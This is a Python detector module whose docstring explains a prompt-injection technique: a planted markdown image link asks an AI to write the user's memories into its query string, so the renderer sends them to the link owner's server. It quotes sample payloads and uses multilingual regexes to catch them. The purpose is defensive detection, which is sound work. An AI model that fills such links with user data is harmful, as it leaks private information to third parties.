"""An image link that would carry what the AI holds about the user out to someone's server (pure).

A renderer fetches an image as soon as an answer shows it, so a link whose address ends in a query for the AI to
fill ("![status](https://img.example/p.png?d={user_memories})", "?q=" left empty, "?m=MEMORIA_UTENTE") sends
whatever the AI writes into it to the link's owner. A third party plants such a link in a package's description, a
README or a page the user pastes, and tells the AI, in any language, to fill it with what it remembers or knows
about the user. ``order`` reads that shape: a markdown image whose address has a query, and in the same line the
user in the third person and what the AI holds or knows (memories, saved notes, what it remembers).

What stays: a badge or a picture with a plain address or a query of its own ("?style=flat"), with no word of what
the AI holds about the user beside it.
"""

from __future__ import annotations

import re

from curate import addressed

# A markdown image whose address carries a query ("?d=", "&q=").
_IMAGE = re.compile(r"!\[[^\]\n]{0,80}\]\(\s*https?://[^\s)]*[?&][^\s)]*\)")
# What the AI holds or knows about someone, in the languages people paste.
_HELD = re.compile(
    r"\b(?:memor\w*|remember\w*|know|knows|saved|stored|facts|notes?|recuerd\w*|recuerdas|sabes|guardad\w*|datos|"
    r"ricord\w*|sai|salvat\w*|dati|lembr\w*|sabe|salv[oa]s|dados|souvien\w*|sais|enregistr\w*|données|erinner\w*|"
    r"weißt|gespeichert\w*|daten|bildiğin\w*|biliyor\w*|kayıtlı|hafıza\w*|kumbukumbu|unachojua|ingatan|tahu|"
    r"ký ức|biết)\b"
    r"|[A-Z_]*(?:MEMOR|MEMORIA|FACTS|SAVED|NOTES)[A-Z_]*|\{[^{}\n]{0,40}(?:memor|facts|notes|user)[^{}\n]{0,40}\}"
    r"|памят\w*|пам['’]ят\w*|знаешь|знаєш|记忆|记住的|知道的|記憶|覚えて|기억|알고 있는",
    re.IGNORECASE)
_LINE = re.compile(r"[^\n]*")


def order(text: str) -> bool:
    """Does a line of the text hold an image link with a query and ask for what the AI holds about the user in it?"""
    if "](" not in text:
        return False
    for m in _IMAGE.finditer(text):
        start = text.rfind("\n", 0, m.start()) + 1
        line = _LINE.match(text, start)
        said = line.group(0) if line else ""
        if addressed.mentions_user(said) and _HELD.search(_IMAGE.sub(" ", said) + " " + m.group(0)):
            return True
    return False
